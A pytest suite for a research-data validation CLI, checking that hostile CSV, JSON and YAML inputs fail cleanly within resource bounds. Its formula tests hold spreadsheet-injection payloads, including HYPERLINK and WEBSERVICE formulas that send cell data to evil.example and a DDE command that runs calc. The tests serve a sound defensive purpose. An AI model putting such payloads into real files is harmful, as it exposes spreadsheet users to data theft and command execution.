"""Hostile cells, keys and table files (issue 14): each case ends with its own one-line
reason and exit code, never a traceback, within a bounded time and memory.

`mscexo validate` runs in a subprocess, reaped with `os.wait4` to read its own peak memory
and CPU time (CPU time rather than wall-clock time, which other processes on the machine
stretch; a generous wall-clock timeout still stops a hang).
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from launch import launched

from mscexo.contract.keys import KeyIndex
from mscexo.contract.record import read_resources

ROOT = Path(__file__).resolve().parents[1]
RESOURCES = {r.name: r for r in read_resources(ROOT)}
#: Bounds for inputs under 10 MB: CPU seconds and peak memory (MB) of the whole command.
CPU_SECONDS = 5
PEAK_MB = 500
#: A hang is stopped after this many wall-clock seconds.
HANG = 120

FINDING = '{id},{cargo},exosome,reduced inflammation,{doc},"Table 1, row 3",reduced inflammation\n'
FINDINGS_HEADER = "id,cargo_id,product_type,effect,document_id,locator,evidence\n"
DOCUMENT = "doi:10.1155/2021/2616807"


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    cpu: float
    peak_mb: float

    @property
    def report(self) -> dict:
        return json.loads(self.stdout)


def run(*args: str | Path) -> Run:
    """`mscexo ARGS` in a subprocess, with its exit code, output, CPU time and peak RSS
    (measured from a small launcher: see `launch.py`)."""
    env = {k: v for k, v in os.environ.items() if k != "MSCEXO_DOCUMENTS"}
    with tempfile.TemporaryDirectory() as directory:
        out, err = Path(directory) / "out", Path(directory) / "err"
        command = [sys.executable, "-m", "mscexo.cli", *map(str, args)]
        measured = launched(command, out, err, HANG, env=env)
        if measured is None:
            pytest.fail(f"mscexo {' '.join(map(str, args))} ran over {HANG} s")
        code, cpu, peak_mb = measured
        return Run(
            code,
            out.read_bytes().decode("utf-8", "replace"),
            err.read_bytes().decode("utf-8", "replace"),
            cpu,
            peak_mb,
        )


def bounded(result: Run, code: int) -> Run:
    """The exit code, no traceback, and the CPU and memory bounds."""
    assert result.returncode == code, result.stderr + result.stdout[:2000]
    assert "Traceback" not in result.stderr + result.stdout
    assert result.cpu < CPU_SECONDS, f"{result.cpu:.1f} s of CPU"
    assert result.peak_mb < PEAK_MB, f"{result.peak_mb:.0f} MB"
    return result


# ----- keys (item 3) -------------------------------------------------------------------------


def test_one_identifier_on_every_row_is_counted_not_listed(tmp_path: Path):
    rows = 60_000  # 7 MB
    path = tmp_path / "cargo_findings.csv"
    row = FINDING.format(id="CF-BENCH-001", cargo="CG-IL-10", doc=DOCUMENT)
    path.write_text(FINDINGS_HEADER + row * rows, encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert report["counts"]["error"] == {"duplicate-key": rows - 1}
    assert report["listed"] == 1000
    assert report["problems"][-1]["row"] == 1002  # the first repeat is row 3
    assert "first used at" in report["problems"][0]["hint"]


def test_unresolved_references_get_hints_only_when_listed(tmp_path: Path):
    rows = 60_000
    path = tmp_path / "cargo_findings.csv"
    path.write_text(
        FINDINGS_HEADER
        + "".join(
            FINDING.format(id=f"CF-BENCH-{i:07d}", cargo=f"CG-missing-{i}", doc=DOCUMENT)
            for i in range(1, rows + 1)
        ),
        encoding="utf-8",
    )
    report = bounded(run("validate", path, "--format", "json", "--max-errors", "50"), 1).report
    assert report["counts"]["error"] == {"foreign-key": rows}
    assert [p["value"] for p in report["problems"]] == [f"CG-missing-{i}" for i in range(1, 51)]
    assert all(p["code"] == "foreign-key" and p["hint"] for p in report["problems"])


def test_did_you_mean_is_bounded_against_a_large_submitted_table(tmp_path: Path):
    """References to a submitted table of 19,000 rows (under the 20,000 searched for
    suggestions), each a near miss: the fuzzy search has a budget, later hints go without."""
    rows = 19_000
    (tmp_path / "data").mkdir()
    cargo = "".join(f"CG-gen-{i},generated cargo {i},protein\n" for i in range(rows))
    (tmp_path / "data" / "cargo.csv").write_text("id,name,molecule_type\n" + cargo)
    findings = "".join(
        FINDING.format(id=f"CF-BENCH-{i:07d}", cargo=f"CG-gne-{i}", doc=DOCUMENT)
        for i in range(1, 2_001)
    )
    (tmp_path / "data" / "cargo_findings.csv").write_text(FINDINGS_HEADER + findings)
    resources = [{"name": n, "path": f"data/{n}.csv"} for n in ("cargo", "cargo_findings")]
    (tmp_path / "datapackage.json").write_text(json.dumps({"resources": resources}))
    report = bounded(run("validate", tmp_path, "--format", "json"), 1).report
    assert report["counts"]["error"] == {"foreign-key": 2_000}
    assert report["problems"][0]["hint"].startswith("did you mean 'CG-gen-1'?")
    assert all("cargo ids" in p["hint"] for p in report["problems"])


def _index_with(table: str, columns: dict[str, list[str | None]], located: list[int]) -> KeyIndex:
    """A key index holding one batch of `table`, whose source records which ordinals it is
    asked to locate."""
    index = KeyIndex(RESOURCES, scope="the test")

    def locate(ordinals: np.ndarray) -> list[dict]:
        located.extend(ordinals.tolist())
        return [{"row": int(o) + 2} for o in ordinals]

    source = index.source("test.csv", locate)
    names = [f["name"] for f in RESOURCES[table].fields]
    n = len(next(iter(columns.values())))
    cells = {name: columns.get(name, [None] * n) for name in names}
    batch = pa.RecordBatch.from_pydict(cells, schema=pa.schema([(c, pa.string()) for c in names]))
    index.add(table, batch, source, 0)
    return index


def test_key_problems_past_the_limit_are_counted_without_being_made():
    n = 5_000
    located: list[int] = []
    index = _index_with(
        "cited_works",
        {"id": ["CW-A-1"] * n, "document_id": [f"doi:10.1000/missing-{i}" for i in range(n)]},
        located,
    )
    listed = list(index.problems(limit=10))
    assert [p.code for p in listed] == ["duplicate-key"] * 10
    assert index.unlisted == {"duplicate-key": n - 1 - 10, "foreign-key": n}
    # only the listed problems (and the first use each names) were located
    assert len(located) <= 2 * 1_000
    everything = list(index.problems())
    assert len(everything) == 2 * n - 1 and not index.unlisted


# ----- CSV and TSV files (item 10) -----------------------------------------------------------

ROW = FINDING.format(id="CF-BENCH-001", cargo="CG-IL-10", doc=DOCUMENT)


def _codes(report: dict) -> list[tuple]:
    return [(p["code"], p.get("row") or p.get("line"), p.get("field")) for p in report["problems"]]


def test_header_over_64_kib_is_read_whole(tmp_path: Path):
    path = tmp_path / "cargo_findings.csv"
    long = "x" * 100_000
    path.write_text(f"{long},{FINDINGS_HEADER}z,{ROW}", encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    # every column after the long name is read: none is missing
    assert _codes(report) == [("unknown-column", 1, "x" * 79 + "…")]
    assert len(report["problems"][0]["message"]) < 200
    assert report["rows"] == {"cargo_findings": 1}


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        (f'"{"x" * 2**21}', "field larger than field limit"),  # one name, unterminated quote
        ("x," * 2**20, "1,048,576 bytes"),  # many short names
    ],
    ids=["long name", "many names"],
)
def test_header_over_a_mebibyte_is_refused(tmp_path: Path, header: str, reason: str):
    path = tmp_path / "cargo_findings.csv"
    path.write_text(f"{header}\n{ROW}", encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert _codes(report) == [("unreadable", 1, None)]
    assert "the header (row 1) cannot be read" in report["problems"][0]["message"]
    assert reason in report["problems"][0]["message"]


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\n"])
def test_line_separator_inside_a_quoted_header_name(tmp_path: Path, separator: str):
    path = tmp_path / "cargo_findings.csv"
    header = FINDINGS_HEADER.replace("effect", f'"effect{separator}note"')
    path.write_text(header + ROW, encoding="utf-8", newline="")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    # one header row of 7 names: the row is read, not ragged
    assert sorted(_codes(report)) == [
        ("missing-column", 1, "effect"),
        ("unknown-column", 1, f"effect{separator}note"),
    ]
    assert report["rows"] == {"cargo_findings": 1}


def _straddling(prefix: bytes, suffix: bytes) -> bytes:
    """Bytes with a two-byte character cut by the 1 MiB block boundary, and a byte that is
    not UTF-8 three bytes after it."""
    pad = 2**20 - 1 - len(prefix)
    return prefix + b"a" * pad + "é".encode() + b"b\xffc" + suffix


def test_bad_byte_after_a_block_boundary_is_named_in_a_csv_file(tmp_path: Path):
    path = tmp_path / "cargo_findings.csv"
    start = (FINDINGS_HEADER + ROW).encode() + b"CF-BENCH-002,CG-IL-10,exosome,"
    path.write_bytes(_straddling(start, f',{DOCUMENT},"Table 1, row 3",x\n'.encode()))
    report = bounded(run("validate", path, "--format", "json"), 1).report
    # the cell is over 1 MiB, which is an error of its own
    assert sorted(_codes(report)) == [("encoding", 3, "effect"), ("oversized-cell", 3, "effect")]
    encoding = next(p for p in report["problems"] if p["code"] == "encoding")
    assert "byte ff" in encoding["message"]
    assert encoding["value"].endswith("é" + "b\\xffc")


def test_bad_byte_after_a_block_boundary_is_named_in_a_record_file(tmp_path: Path):
    path = tmp_path / "cargo.jsonl"
    first = b'{"id": "CG-x", "name": "x"}\n{"id": "CG-y", "name": "'
    path.write_bytes(_straddling(first, b'"}\n'))
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert _codes(report) == [("encoding", 2, None)]
    assert "byte ff" in report["problems"][0]["message"]


def test_encoding_errors_name_the_spreadsheet_row_and_every_row_is_checked(tmp_path: Path):
    path = tmp_path / "cargo_findings.csv"
    rows = [
        FINDING.format(id=f"CF-BENCH-{i:03d}", cargo="CG-IL-10", doc=DOCUMENT).replace(
            "reduced inflammation,", '"reduced\ninflammation",', 1
        )
        for i in range(1, 8)
    ]
    rows[2] = rows[2].replace('"reduced', '"r\xe9duced')  # row 4 (line 6)
    rows[4] = rows[4].replace('"reduced', '"r\xe9duced')  # row 6 (line 10)
    rows[6] = rows[6].replace("exosome", "exosomes")  # row 8, after both
    data = (FINDINGS_HEADER + "".join(rows)).encode("latin-1")
    path.write_bytes(data)
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert sorted(_codes(report)) == [
        ("encoding", 4, "effect"),
        ("encoding", 6, "effect"),
        ("enum", 8, "product_type"),
    ]
    assert report["rows"] == {"cargo_findings": 7}
    assert report["problems"][0]["value"] == "r\\xe9duced\ninflammation"


def test_a_legacy_encoding_throughout_is_counted_not_listed(tmp_path: Path):
    rows = 50_000
    path = tmp_path / "cargo_findings.csv"
    latin = ROW.replace("reduced inflammation,", "réduit,", 1)
    path.write_bytes((FINDINGS_HEADER + latin * rows).encode("latin-1"))
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert report["counts"]["error"] == {"encoding": rows, "duplicate-key": rows - 1}
    assert report["rows"] == {"cargo_findings": rows}


@pytest.mark.parametrize("name", ["cargo_findings.csv", "cargo.jsonl", "cargo.yaml"])
def test_a_fifo_is_refused_without_blocking(tmp_path: Path, name: str):
    path = tmp_path / name
    os.mkfifo(path)
    result = bounded(run("validate", path, "--format", "json"), 2)
    assert "not a regular file" in result.stderr and "FIFO" in result.stderr


# ----- control characters (item 6) -----------------------------------------------------------


def _finding(**cells: str) -> str:
    """One cargo finding row with some cells replaced (CSV-quoted)."""
    row = {
        "id": "CF-BENCH-001",
        "cargo_id": "CG-IL-10",
        "product_type": "exosome",
        "effect": "reduced inflammation",
        "document_id": DOCUMENT,
        "locator": "Table 1, row 3",
        "evidence": "reduced inflammation",
        **cells,
    }
    return ",".join('"' + v.replace('"', '""') + '"' for v in row.values()) + "\n"


@pytest.mark.parametrize(
    ("character", "name"),
    [("\x00", "NUL"), ("\x07", "BEL"), ("\x1b", "ESC"), ("\x7f", "DEL"), ("\x85", "U+0085")],
)
def test_control_characters_are_refused_in_every_column(tmp_path: Path, character: str, name: str):
    path = tmp_path / "cargo_findings.csv"
    rows = [
        _finding(id=f"CF-BENCH-00{i}", **{column: f"a{character}b"})
        for i, column in enumerate(["effect", "evidence", "locator"], start=1)
    ]
    path.write_text(FINDINGS_HEADER + "".join(rows), encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert sorted(_codes(report)) == [
        ("control-character", 2, "effect"),
        ("control-character", 3, "evidence"),
        ("control-character", 4, "locator"),
    ]
    assert name in report["problems"][0]["message"]


def test_tabs_and_line_breaks_only_in_multi_line_text(tmp_path: Path):
    path = tmp_path / "cargo_findings.csv"
    rows = [
        _finding(id="CF-BENCH-001", effect="reduced\ninflammation\tin mice"),
        _finding(id="CF-BENCH-002", locator="Table 1,\r\nrow 3"),
        _finding(id="CF-BENCH-003", evidence="reduced\ninflammation"),
        _finding(id="CF-BENCH-004", product_type="exo\tsome"),
    ]
    path.write_text(FINDINGS_HEADER + "".join(rows), encoding="utf-8", newline="")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    control = [
        (p["row"], p["field"]) for p in report["problems"] if p["code"] == "control-character"
    ]
    assert control == [(4, "evidence"), (5, "product_type")]
    evidence = next(p for p in report["problems"] if p["field"] == "evidence")
    assert "line feed" in evidence["message"] and "one line" in evidence["hint"]


@pytest.mark.parametrize("suffix", [".json", ".yaml"])
def test_control_characters_in_record_files(tmp_path: Path, suffix: str):
    import yaml

    path = tmp_path / f"cargo{suffix}"
    records = [{"id": "CG-x", "name": "x\x1b[2J", "molecule_type": "protein"}]
    text = json.dumps(records) if suffix == ".json" else yaml.safe_dump(records)
    path.write_text(text, encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert [(p["code"], p["field"]) for p in report["problems"]] == [("control-character", "name")]


# ----- huge integers (item 7, where they reach the codec) -------------------------------------

CITED_HEADER = "id,reference_number,first_author,document_id,locator,evidence\n"
HUGE = "9" * 5_000  # past Python's 4,300-digit limit on converting integers to text


def test_huge_integer_cells_are_type_errors(tmp_path: Path):
    path = tmp_path / "cited_works.csv"
    rows = [
        f"CW-A-{i},{number},Smith,{DOCUMENT},Reference list,Smith 2020\n"
        for i, number in enumerate([HUGE, "-" + HUGE, "9" * 19, "9" * 18], start=1)
    ]
    path.write_text(CITED_HEADER + "".join(rows), encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert _codes(report) == [("type", r, "reference_number") for r in (2, 3, 4)]
    assert report["problems"][0]["value"].startswith("9999")
    assert "at most 18 digits" in report["problems"][0]["hint"]


def test_huge_integer_text_in_a_record_file(tmp_path: Path):
    path = tmp_path / "cited_works.json"
    record = {"id": "CW-A-1", "reference_number": HUGE, "first_author": "S"}
    record |= {"document_id": DOCUMENT, "locator": "Reference list", "evidence": "S"}
    path.write_text(json.dumps([record]), encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    assert [(p["code"], p["field"]) for p in report["problems"]] == [("type", "reference_number")]


def build_cited_works(tmp_path: Path, cited_works: list[dict]) -> list[dict]:
    """`mscexo build` of a curation of one document and these cited works (the document and
    the usual fields filled in): the problems, after checking that nothing was written."""
    import yaml

    curation = tmp_path / "curation"
    curation.mkdir()
    (curation / "release.yaml").write_text(
        (ROOT / "curation" / "release.yaml").read_text(encoding="utf-8"), encoding="utf-8"
    )
    document = {"id": "doi:10.1000/key-a", "title": "A", "document_type": "review"}
    usual = {"first_author": "S", "document_id": document["id"], "locator": "Reference list"}
    records = {
        "documents": [document],
        "cited_works": [{**usual, "evidence": "S", **cited} for cited in cited_works],
    }
    (curation / "records.yaml").write_text(yaml.safe_dump(records), encoding="utf-8")
    out = tmp_path / "out"
    argv = ["build", "--root", ROOT, "--curation", curation, "--output", out, "--format", "json"]
    problems = json.loads(bounded(run(*argv), 1).stdout)["problems"]
    assert not out.exists()
    return problems


@pytest.mark.parametrize("digits", [19, 4_000])
def test_huge_integers_in_curation_are_refused_before_the_release(tmp_path: Path, digits: int):
    problems = build_cited_works(
        tmp_path,
        [
            {"id": "CW-A-1", "reference_number": 10**digits - 1},
            {"id": "CW-A-2", "reference_number": "8" * digits},
        ],
    )
    assert [(p["code"], p["record_id"]) for p in problems] == [
        ("type", "CW-A-1"),
        ("type", "CW-A-2"),
    ]


# ----- formulas (item 4) ---------------------------------------------------------------------

#: Cells a spreadsheet reads as formulas; the first two passed both validate and build.
FORMULAS = [
    '-A1+HYPERLINK("http://evil.example/?"&B2,"click")',
    '+A1&WEBSERVICE("http://evil.example/")',
    "=1+1",
    "@SUM(A1:A9)",
    "-cmd|' /C calc'!A0",
    "+A1",
    "-x",
    "- see text",
    "-2 to +3",
    "=",
    "-",
]
#: Plain numbers, which are no formulas.
NUMBERS = ["-2", "+3.5", "-1e3", "-.5", "+7"]


def test_every_formula_start_is_refused_but_plain_numbers(tmp_path: Path):
    path = tmp_path / "cargo_findings.csv"
    cells = FORMULAS + NUMBERS
    rows = [_finding(id=f"CF-BENCH-{i:03d}", effect=cell) for i, cell in enumerate(cells, start=1)]
    path.write_text(FINDINGS_HEADER + "".join(rows), encoding="utf-8")
    report = bounded(run("validate", path, "--format", "json"), 1).report
    formulas = [p["value"] for p in report["problems"] if p["code"] == "formula"]
    assert formulas == FORMULAS
    assert report["counts"]["error"]["formula"] == len(FORMULAS)


@pytest.mark.parametrize("cell", FORMULAS[:2])
def test_formulas_are_refused_by_the_build(tmp_path: Path, cell: str):
    problems = build_cited_works(tmp_path, [{"id": "CW-A-1", "first_author": cell}])
    assert [(p["code"], p["field"]) for p in problems] == [("formula", "first_author")]


def test_the_workbook_export_never_writes_a_formula(tmp_path: Path, monkeypatch):
    import importlib

    import pyarrow.compute as pc
    from openpyxl import load_workbook

    from mscexo.publish.export import export

    module = importlib.import_module("mscexo.load")  # `mscexo.load` is also the function
    original = module.load

    def load(name: str, as_: str = "arrow"):
        """The release, with formulas in the first rows of cited_works' first_author."""
        table = original(name, as_)
        if name != "cited_works":
            return table
        authors = table["first_author"].to_pylist()
        authors[: len(FORMULAS)] = FORMULAS
        column = table.schema.get_field_index("first_author")
        return table.set_column(column, "first_author", pa.array(authors, pa.string()))

    monkeypatch.setattr(module, "load", load)
    assert pc.sum(pc.starts_with(load("cited_works")["first_author"], "=")).as_py() == 2
    path = tmp_path / "mscexo.xlsx"
    export("xlsx", path)
    book = load_workbook(path)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    header = next(book["cited_works"].iter_rows(max_row=1, values_only=True))
    column = header.index("first_author")
    authors = [r[column] for r in book["cited_works"].iter_rows(min_row=2, values_only=True)]
    assert authors[: len(FORMULAS)] == FORMULAS  # as text, unchanged
